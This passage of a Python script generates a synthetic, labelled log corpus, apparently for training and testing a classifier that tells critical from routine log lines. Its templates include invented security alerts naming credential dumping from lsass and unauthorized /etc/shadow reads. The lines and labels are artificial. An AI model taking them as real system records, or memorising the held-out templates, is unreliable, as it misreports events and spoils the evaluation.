R slurm-monitor: partition %(|batch|gpu) %(n:20-400) nodes IDLE, %(n:20-400) ALLOCATED, 0 DOWN
R kernel: %(kt) input: Power Button as /devices/LNXSYSTM:00/LNXPWRBN:00/input/input%(n:0-9)
R bmc: firmware self-test passed on %(host), SEL %(n:1-60)% used
"""

ALARMING_WORDS += r"""
R %(svc): exception handled: TimeoutError on cache read, falling back to database (no user impact)
R %(svc): 0 errors, 0 failures, %(n) successes in the last 5m
R monitoring: alert 'DiskFull' for %(host) is in state OK (last fired %(n:2-90) days ago)
R ci: job %(svc)-tests failed on branch feature/%(lc:6) (%(n:1-40) failing tests); main unaffected
R %(svc): error counter reset after deploy %(semver)
R postmortem: incident %(tick) (outage on %(date)) closed; follow-ups tracked
R wiki: runbook "disk full" updated by %(user)
R status page: all systems operational; earlier incident "%(svc) degraded" resolved
R config: fail_fast=true, fatal_on_warning=false for %(svc)
R %(svc): killed worker %(pid) after max_requests=%(n:500-5000) (normal recycling)
R %(svc): deprecated endpoint %(apipath) called %(n) times today; removal scheduled
R %(sys)rsyslogd: message repeated %(n:2-90) times: [ %(svc): cache refresh ok]
R nagios: SERVICE NOTIFICATION: ops;%(host);Disk Usage;OK;notify-by-email;DISK OK - free space: / %(n:10000-90000) MB (%(n:20-80)%)
R nagios: HOST ALERT: %(host);UP;HARD;1;PING OK - Packet loss = 0%, RTA = %(f:0.1-2:2) ms
R grafana: alert rule "%(|CPU critical|Memory critical|Disk critical)" for %(host) evaluated: Normal
R %(HOSTU) Service Control Manager: Event 7036 The %(|Windows Update|Print Spooler) service entered the stopped state.
R job-runner: %(svc)-retry-queue: %(n:1-90) failed messages re-enqueued and processed successfully
R %(svc): recovered from panic in goroutine %(n) (%(|nil map|index out of range)); request aborted, process healthy
R chaos suite "kill-primary" passed in staging (failover took %(n:5-30)s)
R %(svc): warning: slow disk write %(n:100-900)ms on %(path) (threshold 1000ms)
R error-tracker: new issue %(svc)#%(n) "TypeError: undefined is not a function" (%(n:1-20) events, %(n:1-5) users)
"""

# Third round: plain, everyday informational lines (most real log volume looks like this).
SECURITY += r"""
R %(sys)sshd[%(pid)]: Received signal 15; terminating.
R %(sys)nslcd[%(pid)]: connected to LDAP server ldaps://%(host):636
R %(sys)sssd_be[%(pid)]: Backend is online for domain corp.example.org
R %(sys)dbus-daemon[%(pid)]: [system] Successfully activated service 'org.freedesktop.%(|hostname1|timedate1|locale1)'
R oauth2-proxy: authenticated via OAuth2: Session{email:%(email) user:%(user) token:true}
R krb5kdc[%(pid)]: AS_REQ (%(n:2-6) etypes {aes256-cts-hmac-sha1-96(18)}) %(ip): ISSUE: authtime %(n:1700000000-1760000000), etypes {rep=18 tkt=18 ses=18}, %(user)@CORP.EXAMPLE.ORG for krbtgt/CORP.EXAMPLE.ORG@CORP.EXAMPLE.ORG
R %(sys)sshd[%(pid)]: Starting session: shell on pts/%(n:0-9) for %(user) from %(ip) port %(port) id 0
R type=USER_LOGIN msg=audit(%(epoch):%(n)): pid=%(pid) uid=0 auid=%(n:1000-60000) ses=%(n:1-9999) msg='op=login id=%(n:1000-60000) exe="/usr/sbin/sshd" hostname=%(ip) addr=%(ip) terminal=/dev/pts/%(n:0-9) res=success'
"""

CERTIFICATES += r"""
R %(sys)update-ca-certificates[%(pid)]: Updating certificates in /etc/ssl/certs... %(n:0-3) added, 0 removed; done.
R cert-manager: CertificateRequest %(ns)/%(svc)-tls-%(n:1-9) created for renewal
R step-ca[%(pid)]: issued certificate for %(svc).%(ns).svc (serial %(n), expires %(ts))
R nginx: reloaded TLS configuration for %(domain) (ECDSA P-256 and RSA 2048 certificates)
"""

STORAGE += r"""
R %(sys)systemd[1]: Mounted %(|srv-data|var-lib-docker|home|boot-efi).mount - %(path).
R rclone: Transferred: %(size) / %(size), 100%, %(n:1-90) MiB/s, ETA 0s (%(n) files)
R restic: snapshot %(hex:8) saved; files: %(n) new, %(n) changed, %(n) unmodified; added to the repository: %(size)
R borg: archive %(host)-%(date) created, deduplicated size %(size), duration %(dur)
R kernel: %(kt) sd %(scsi): [%(sdisk)] Write cache: enabled, read cache: enabled, doesn't support DPO or FUA
R %(sys)udisksd[%(pid)]: Mounted /dev/%(part) at %(path) on behalf of uid %(n:1000-60000)
R ceph-osd: osd.%(n:0-300) started with %(n) pgs, objectstore bluestore
R du-report: %(path) uses %(size) in %(n) files
"""

MEMORY += r"""
R kernel: %(kt) Zone ranges: DMA [mem 0x0000000000001000-0x0000000000ffffff] Normal [mem 0x0000000100000000-0x%(hex:12)]
R free -m: Mem: total %(n:200000-500000) used %(n:10000-90000) free %(n:1000-90000) shared %(n:10-900) buff/cache %(n:10000-90000) available %(n:100000-190000)
R jemalloc: stats: allocated %(n), active %(n), resident %(n), retained %(n)
R %(svc): in-process cache size %(size) (%(n) entries), hit ratio %(f:50-99)%
R kernel: %(kt) transparent_hugepage: madvise mode enabled
"""

DATABASES += r"""
R %(pgts) [%(pid)] LOG:  connection received: host=%(ip) port=%(port)
R %(pgts) [%(pid)] LOG:  disconnection: session time: %(time).%(n:100-999) user=%(user) database=%(db) host=%(ip) port=%(port)
R %(mysqlts) %(n) [Note] [MY-%(n:10000-13999)] [Server] Event Scheduler: Loaded %(n:0-20) events
R {"t":{"$date":"%(ts)"},"s":"I","c":"NETWORK","id":22943,"ctx":"listener","msg":"Connection accepted","attr":{"remote":"%(ip):%(port)","connectionCount":%(n)}}
R redis-cli info keyspace: db0:keys=%(n),expires=%(n),avg_ttl=%(n)
R [%(host)] [%(|orders|logs-app)-%(date)] rolling over index (max_age [1d])
R INFO  [MemtableFlushWriter:%(n:1-9)] %(cassts) Memtable.java:%(n:100-500) - Writing Memtable-%(table)@%(n)(%(n:1000000-900000000) serialized bytes, %(n) ops)
R clickhouse executeQuery: Read %(n) rows, %(size) in %(f:0.01-9:3) sec., %(n) rows/sec.
"""

CONTAINERS += r"""
R kubelet[%(pid)]: %(klogI) scope.go:%(n:100-200)] "RemoveContainer" containerID="containerd://%(hex:64)"
R containerd[%(pid)]: level=info msg="StartContainer for \"%(hex:64)\" returns successfully"
R kube-apiserver[%(pid)]: %(klogI) controller.go:%(n:100-900)] quota admission added evaluator for: %(|deployments.apps|replicasets.apps|jobs.batch)
R %(svc)-%(n:1-9)  | %(ts) listening on :%(port)
R podman[%(pid)]: pod %(hex:12) created with %(n:1-5) containers
R kubectl apply: service/%(svc) configured, deployment.apps/%(svc) unchanged
R runc: container %(hex:12) created, init pid %(pid)
"""

NETWORK += r"""
R %(sys)systemd-resolved[%(pid)]: Using degraded feature set UDP instead of UDP+EDNS0 for DNS server %(ip).
R %(sys)avahi-daemon[%(pid)]: Registering new address record for %(ip) on %(iface).IPv4.
R %(sys)NetworkManager[%(pid)]: <info>  [%(epoch)] dhcp4 (%(iface)): state changed new lease, address=%(ip)
R kernel: %(kt) IPv6: ADDRCONF(NETDEV_UP): %(iface): link is not ready
R traefik: %(ip) - - [%(tsd)] "%(method) %(apipath) HTTP/2.0" %(|200|201|204) %(n:100-90000) "-" "-" %(n) "%(svc)@kubernetes" "http://%(ip):%(port)" %(n:1-900)ms
R conntrack: %(n) entries of %(n:262144-1048576) max (%(n:1-40)%)
R %(sys)snmpd[%(pid)]: Connection from UDP: [%(ip)]:%(port)->[%(ip)]:161
"""

HARDWARE += r"""
R kernel: %(kt) smpboot: CPU%(n:1-127) is up
R kernel: %(kt) ACPI: PCI Root Bridge [PC%(n:0-9)] (domain 0000 [bus %(hex:2)-%(hex:2)])
R ipmi: %(host) CPU%(n:0-1) Temp %(n:35-70) degrees C (ok)
R sensors: coretemp-isa-0000 Package id %(n:0-1): +%(n:35-70).0°C (high = +80.0°C, crit = +100.0°C)
R slurmd[%(pid)]: slurmd version %(semver) started; CPUs=%(n:16-256) Boards=1 Sockets=2 RealMemory=%(n)
R nvidia-smi: GPU %(n:0-7): %(n:30-70)C, %(n:50-400)W / 400W, %(n:0-100)% util, %(n)MiB / 81920MiB
R lm-sensors: fan%(n:1-8): %(n:2000-9000) RPM (min = %(n:500-1500) RPM)
R kernel: %(kt) microcode: updated early: 0x%(hex:4) -> 0x%(hex:4), date = %(date)
"""

# Fourth round: more negated/benign contexts for alarming words, more storage and security events.
ALARMING_WORDS += r"""
R %(svc): health summary: failures=0 errors=0 restarts=0 (all checks passed)
R job %(svc)-nightly finished: 0 failed tasks, %(n) succeeded, no errors
R migrate: %(n) rows migrated, 0 errors, 0 conflicts; migration completed
R %(svc): non-fatal warning ignored: optional plugin %(|geoip|metrics-push) not installed
R %(svc): retry 1/3 succeeded after transient error (connection reset by peer)
R watchdog: %(svc) responded within %(n:1-900)ms; no restart needed
R postfix/qmgr[%(pid)]: %(HEX:10): removed (delivered, 0 bounces)
R cleanup: deleted %(n:1-40) old crash dumps from /var/crash (retention 14d)
R audit-report %(date): 0 critical findings, %(n:0-9) low findings (accepted risk)
R k8s-janitor: deleted %(n) Failed pods older than 24h (cleanup job)
R e2e tests run %(uuid8): scenario "database down" simulated, alerting verified in %(dur), environment restored
R %(svc): feature flag kill_switch.%(|payments|search) is off (default)
R dependabot: bumped %(|log4j-core|openssl|lodash) to %(semver) (security fix) in %(svc), CI green
R %(svc): timeout budget %(n:100-900)ms not exceeded (p99 %(n:10-99)ms)
R pager: on-call handover from %(user) to %(user) complete; 0 open critical incidents
R backup-verify: %(n) files compared, 0 mismatches, 0 unreadable
R tls-scan for %(domain): grade A+, no weak ciphers, no expired intermediates
R %(svc): graceful degradation test passed; fallback served %(n) requests without errors
R slo-report: weekly error budget %(n:60-99)% remaining, no SLO breach
R %(svc) [WARN] config key "panic_on_error" is obsolete and ignored
R %(svc): lock contention resolved after %(n:1-900)ms wait for row lock (no deadlock)
"""

STORAGE += r"""
C kernel: %(kt) F2FS-fs (%(part)): inconsistent node block, nid:%(n), node_footer[nid:%(n),ino:%(n)]; run fsck to fix
C nfs-client: mount %(path) from %(host) stale: %(n:50-900) processes stuck in D state, service hung
C storage-array: LUN %(n:0-63) on %(host) went offline (both paths lost); %(n:2-30) hosts lost their datastore
C vmware: datastore %(|ds-prod|ds-db|vsan) inaccessible; %(n:5-90) VMs unresponsive
C ceph: %(n:1-90) pgs incomplete, %(n:10-900) objects unfound; data unavailable until the OSD recovers
C disk-health: /dev/%(disk) reports %(n:100-9000) reallocated sectors and rising; replace the drive before data loss
C raid-monitor: second disk %(disk) failed in RAID%(|5|1) array md%(n:0-9); array offline, data inaccessible
C kernel: %(kt) EXT4-fs (%(part)): failed to convert unwritten extents to written extents -- potential data loss! (inode %(n), error -30)
C velero: backup %(ns)-daily FAILED for %(n:3-14) consecutive days; no recent restore point
C logshipper: spool %(path) full; dropping logs since %(ts)
R nfs-client: mount %(path) from %(host) ok, rsize=1048576 wsize=1048576, vers=4.2
R storage-array: LUN %(n:0-63) on %(host) paths: 4 active, 0 failed
R vmware: datastore %(|ds-prod|ds-db|vsan) free space %(n:20-70)%, %(n:5-400) VMs healthy
R ceph: recovery complete, %(n) objects recovered, all pgs active+clean
R disk-health: /dev/%(disk) reallocated sectors 0, pending 0, power-on hours %(n)
R raid-monitor %(host): md%(n:0-9) [UU] clean, check completed in %(dur) with 0 mismatches
R velero: backup %(ns)-daily completed: %(n) items backed up, 0 errors, 0 warnings
R logshipper: spool %(path) at %(n:1-30)%, %(n) events/s shipped
R kernel: %(kt) EXT4-fs (%(part)): mounting ext3 file system using the ext4 subsystem
R lvextend: Size of logical volume %(vg)/%(|data|logs) changed from %(size) to %(size). Logical volume resized.
"""

SECURITY += r"""
C ids: %(n:5-90) hosts in %(ns) contacted known malware domain %(domain) in the last hour (DNS sinkhole hits)
C edr: credential dumping: %(|mimikatz|procdump|lsass-reader) accessed lsass memory on %(HOSTU); account hashes exposed
C auth: successful login for disabled account %(user) from %(pubip); the account should not be usable
C audit: /etc/shadow read by %(svcacct) (pid %(pid), comm %(|python3|cat|php-fpm)); unauthorized access to password hashes
C kube-audit: ClusterRoleBinding cluster-admin granted to serviceaccount %(ns):%(svc) from %(pubip) by an unknown user; privilege escalation
C cloud-audit: security group sg-%(hex:8) opened 0.0.0.0/0 on port %(|22|3306|5432|6379) of a production database; exposed to the internet
C auth: %(n:500-9000) successful logins for %(n:400-9000) distinct accounts from one address %(pubip) (account takeover)
R auth: successful login for %(user) from %(ip) (known device, mfa=webauthn)
R kube-audit: RoleBinding %(ns)/%(svc)-read granted to group dev-readers by %(user) (change %(tick))
R cloud-audit: security group sg-%(hex:8) rule updated by terraform (allow %(ip)/32 on 443)
R ids: DNS sinkhole on %(host): 0 hits in the last 24h (%(n) queries inspected)
R audit: /etc/shadow read by passwd (pid %(pid)) during password change for %(user)
R edr: quarantined file %(path) on %(HOSTU) restored by analyst %(user) (false positive, ticket %(tick))
R %(sys)sshd[%(pid)]: Postponed publickey for %(user) from %(ip) port %(port) ssh2 [preauth]
"""

CONTAINERS += r"""
C kubelet: container runtime is down: failed to connect to containerd.sock; node %(node) cannot run pods
C ingress: upstream %(svc) returned 502 for %(n:90-100)% of requests in the last 5m; site down
R ingress: upstream %(svc) 5xx rate 0.0% over 5m, p95 %(n:10-300)ms
R kubelet: container runtime status check ok (containerd %(semver))
"""

NETWORK += r"""
C switch: PSU %(n:1-2) failed on core switch %(host); running on a single power supply
R switch: PSU %(n:1-2) on core switch %(host) ok (%(n:100-400)W)
"""

HARDWARE += r"""
C hpc-monitor: Lustre filesystem %(lfs) unavailable on all %(n:100-2000) compute nodes; jobs hanging
R hpc-monitor: Lustre filesystem %(lfs) mounted on %(n:100-2000@c)/%(n:100-2000@c) compute nodes
"""

CATEGORIES = [
    ("security", SECURITY),
    ("certificates", CERTIFICATES),
    ("storage", STORAGE),
    ("memory", MEMORY),
    ("databases", DATABASES),
    ("containers", CONTAINERS),
    ("network", NETWORK),
    ("hardware", HARDWARE),
    ("alarming_words", ALARMING_WORDS),
]


def templates():
    """[(category, critical, template)] in file order."""
    out = []
    for category, block in CATEGORIES:
        for line in block.strip("\n").split("\n"):
            if not line.strip() or line.startswith("#"):
                continue
            tag, text = line[:2], line[2:]
            if tag not in ("C ", "R ") or not text.strip():
                raise SystemExit("bad template line: %r" % line)
            out.append((category, tag == "C ", text))
    return out


# A template's family: its category and the program (or first words) that prints it, e.g.
# "hardware:kernel/hardware" for both APEI lines, "network:keepalived_vrrp" for both VRRP lines.
# Near twins (one critical, one routine) share a family and so always land on the same side of
# the split: a held-out family is unseen as a whole.
_LEADING = re.compile(r"%\((sys|kt|cisco|pgts|mysqlts|cassts|redists|tsn|tsd|ts|time|epoch|klog[EIW]"
                      r"|n[^()]*|f[^()]*|pid|host|svc|pod|path|ip|pubip|HOSTU)\)")
_GENERIC = {"kernel", "warning", "normal", "error", "info", "warn", "type", "msg", "level", "c",
            "r", "x", "t", "code", "the", "a"}


def family(category, text):
    s = _LEADING.sub(" ", text)
    s = re.sub(r"%\(\|[^()]*\)", " ", s)
    s = re.sub(r"%\([^()]*\)", " ", s)
    words = [w.lower() for w in re.findall(r"[A-Za-z][A-Za-z0-9_.-]*", s)]
    key = []
    for w in words:
        key.append(w)
        if w not in _GENERIC:
            break
    return category + ":" + "/".join(key[-2:])


def split(all_templates, rng):
    """By family, per category: shuffled families go to the held-out part until it holds about
    a third of the category's templates; the rest train."""
    train, heldout = [], []
    by_category = {}
    for t in all_templates:
        by_category.setdefault(t[0], {}).setdefault(family(t[0], t[2]), []).append(t)
    for category in sorted(by_category):
        families = by_category[category]
        keys = sorted(families)
        rng.shuffle(keys)
        target = round(sum(len(v) for v in families.values()) / 3)
        held = 0
        for k in keys:
            if held + len(families[k]) <= target + 1:
                heldout.extend(families[k])
                held += len(families[k])
            else:
                train.extend(families[k])
    return train, heldout


def counts(rng, n_templates, total):
    """Split `total` lines over `n_templates` templates, each at least 2, a little uneven."""
    weights = [rng.uniform(0.7, 1.3) for _ in range(n_templates)]
    scale = total / sum(weights)
    raw = [w * scale for w in weights]
    out = [max(2, int(r)) for r in raw]
    i = 0
    order = sorted(range(n_templates), key=lambda j: raw[j] - int(raw[j]), reverse=True)
    while sum(out) < total:
        out[order[i % n_templates]] += 1
        i += 1
    return out


def generate(part, total, rng, seen):
    crit = [t for t in part if t[1]]
    rout = [t for t in part if not t[1]]
    n_crit = round(total * CRITICAL_SHARE)
    rows = []
    for group, n in ((crit, n_crit), (rout, total - n_crit)):
        for t, k in zip(group, counts(rng, len(group), n)):
            made = 0
            attempts = 0
            while made < k:
                attempts += 1
                if attempts > 50 * k:
                    raise SystemExit("template gives too few distinct lines: %r" % t[2])
                message = fill(t[2], rng)
                if "%(" in message:
                    raise SystemExit("unfilled placeholder in %r" % message)
                if message in seen:
                    continue
                seen.add(message)
                row = {"message": message, "label": "critical" if t[1] else "not_critical"}
                level = pick_level(rng, t[1])
                if level:
                    row["level"] = level
                rows.append(row)
                made += 1
    rng.shuffle(rows)
    return rows


def main():
    check = "--check" in sys.argv[1:]
    all_templates = templates()
    texts = [t[2] for t in all_templates]
    dupes = {x for x in texts if texts.count(x) > 1}
    if dupes:
        raise SystemExit("duplicate templates: %r" % sorted(dupes))
    train_t, heldout_t = split(all_templates, random.Random(SEED))
    rng = random.Random(SEED + 1)
    seen = set()
    if os.path.exists(BASE_FILE):
        with open(BASE_FILE, encoding="utf-8") as f:
            seen.update(json.loads(line)["message"] for line in f if line.strip())
    train = generate(train_t, TRAIN_LINES, rng, seen)
    heldout = generate(heldout_t, HELDOUT_LINES, rng, seen)
    for name, part, rows in (("log-corpus-more.jsonl", train_t, train),
                             ("log-corpus-heldout.jsonl", heldout_t, heldout)):
        crit_t = sum(1 for t in part if t[1])
        crit_l = sum(1 for r in rows if r["label"] == "critical")
        lev = sum(1 for r in rows if "level" in r)
        print("%-26s %4d lines (%d critical, %.1f%%), %3d templates (%d critical), %d with level"
              % (name, len(rows), crit_l, 100.0 * crit_l / len(rows), len(part), crit_t, lev))
    if check:
        return
    for path, rows in ((TRAIN_FILE, train), (HELDOUT_FILE, heldout)):
        with open(path, "w", encoding="utf-8", newline="\n") as f:
            for row in rows:
                f.write(json.dumps(row, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
